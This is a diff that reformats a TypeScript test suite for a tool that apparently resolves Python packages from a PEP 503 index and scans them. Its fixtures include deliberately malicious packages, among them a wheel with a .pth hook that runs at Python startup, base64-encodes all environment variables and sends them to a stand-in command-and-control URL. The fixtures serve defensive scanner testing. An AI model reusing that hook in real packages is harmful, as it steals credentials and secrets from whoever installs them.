@@ -35,8 +35,19 @@ _report()
 setup(name="evilsetup", version="0.1.0", packages=["evilsetup"])
 `;
 
-async function add(project: string, d: { filename: string; bytes: Uint8Array; metadata: string }, extra: { withMetadata?: boolean; yanked?: boolean; hrefOrigin?: string } = {}): Promise<void> {
-  await index.add({ project, filename: d.filename, bytes: d.bytes, ...(extra.withMetadata === false ? {} : { metadata: d.metadata }), ...(extra.yanked ? { yanked: true } : {}), ...(extra.hrefOrigin ? { hrefOrigin: extra.hrefOrigin } : {}) });
+async function add(
+  project: string,
+  d: { filename: string; bytes: Uint8Array; metadata: string },
+  extra: { withMetadata?: boolean; yanked?: boolean; hrefOrigin?: string } = {},
+): Promise<void> {
+  await index.add({
+    project,
+    filename: d.filename,
+    bytes: d.bytes,
+    ...(extra.withMetadata === false ? {} : { metadata: d.metadata }),
+    ...(extra.yanked ? { yanked: true } : {}),
+    ...(extra.hrefOrigin ? { hrefOrigin: extra.hrefOrigin } : {}),
+  });
   const { createHash } = await import('node:crypto');
   sha[d.filename] = createHash('sha256').update(d.bytes).digest('hex');
 }
@@ -52,7 +63,12 @@ beforeAll(async () => {
   await add('evilsetup', sdist('evilsetup', '0.1.0', { 'setup.py': EXFIL_SETUP, 'evilsetup/__init__.py': '' }));
   await add(
     'fastbin',
-    wheel('fastbin', '3.1.0', { 'fastbin/__init__.py': 'from ._core import *\n', 'fastbin/_core.cpython-311-x86_64-linux-gnu.so': fakeElf(64 * 1024) }, { tag: 'cp311-cp311-manylinux_2_17_x86_64' }),
+    wheel(
+      'fastbin',
+      '3.1.0',
+      { 'fastbin/__init__.py': 'from ._core import *\n', 'fastbin/_core.cpython-311-x86_64-linux-gnu.so': fakeElf(64 * 1024) },
+      { tag: 'cp311-cp311-manylinux_2_17_x86_64' },
+    ),
   );
   await add('fastbin', wheel('fastbin', '3.1.0', { 'fastbin/__init__.py': '' }, { tag: 'cp311-cp311-win_amd64' }));
   await add('top', wheel('top', '1.0.0', lib, { requiresDist: ['mid>=1.0', 'winonly; sys_platform == "win32"', 'speedup>=1; extra == "fast"'] }));
@@ -66,7 +82,8 @@ beforeAll(async () => {
     'pthpkg',
     wheel('pthpkg', '1.0.0', {
       'pthpkg/__init__.py': '',
-      'pthpkg_hook.pth': 'import os, urllib.request, base64; urllib.request.urlopen("https://c2.example-sync.org/p", data=base64.b64encode(repr(dict(os.environ)).encode()))\n',
+      'pthpkg_hook.pth':
+        'import os, urllib.request, base64; urllib.request.urlopen("https://c2.example-sync.org/p", data=base64.b64encode(repr(dict(os.environ)).encode()))\n',
     }),
   );
 }, 60_000);
@@ -99,7 +116,9 @@ describe('resolution against a PEP 503 index', () => {
   it('exact pins, ranges (yanked versions skipped), ~= and the wheel preferred over the sdist', async () => {
     const r = await resolve('cleanpy==1.0.0\n');
     expect(r.packages.map((p) => [p.name, p.version, p.pin, p.distribution.kind, p.source?.line])).toEqual([['cleanpy', '1.0.0', 'exact', 'wheel', 1]]);
-    expect((await resolve('cleanpy>=1,<2\n')).packages.map((p) => [p.version, p.pin, p.distribution.filename])).toEqual([['1.2.0', 'range', 'cleanpy-1.2.0-py3-none-any.whl']]);
+    expect((await resolve('cleanpy>=1,<2\n')).packages.map((p) => [p.version, p.pin, p.distribution.filename])).toEqual([
+      ['1.2.0', 'range', 'cleanpy-1.2.0-py3-none-any.whl'],
+    ]);
     expect((await resolve('cleanpy~=1.0\n')).packages[0]!.version).toBe('1.2.0');
     const yanked = await resolve('cleanpy==1.3.0\n');
     expect(yanked.packages[0]!.notes).toContain('this version is yanked on the index');
@@ -145,7 +164,9 @@ describe('resolution against a PEP 503 index', () => {
       const w = wheel('jsonpkg', '0.9.0', { 'jsonpkg/__init__.py': '' });
       await json.add({ project: 'jsonpkg', filename: w.filename, bytes: w.bytes, metadata: w.metadata });
       const c = pypiRegistry({ url: json.url });
-      const r = await resolveDependencies(parseDependencyManifests([{ path: 'requirements.txt', text: 'jsonpkg==0.9.0\n' }], { pypiIndex: json.url }), { PyPI: c });
+      const r = await resolveDependencies(parseDependencyManifests([{ path: 'requirements.txt', text: 'jsonpkg==0.9.0\n' }], { pypiIndex: json.url }), {
+        PyPI: c,
+      });
       expect(r.packages[0]!.version).toBe('0.9.0');
       expect(json.requests[0]!.accept).toMatch(/application\/vnd\.pypi\.simple\.v1\+json/);
       expect((await fetchPackage(r.packages[0]!, c)).bytes.length).toBe(w.bytes.length);
@@ -200,7 +221,9 @@ describe('fetch and analysis', () => {
           id: 'PYSEC-2099-1',
           summary: 'Arbitrary code execution in cleanpy',
           database_specific: { severity: 'MODERATE' },
-          affected: [{ package: { ecosystem: 'PyPI', name: 'CleanPy' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '1.1' }, { last_affected: '1.2.0' }] }] }],
+          affected: [
+            { package: { ecosystem: 'PyPI', name: 'CleanPy' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '1.1' }, { last_affected: '1.2.0' }] }] },
+          ],
         },
       ],
       'sha256:test',
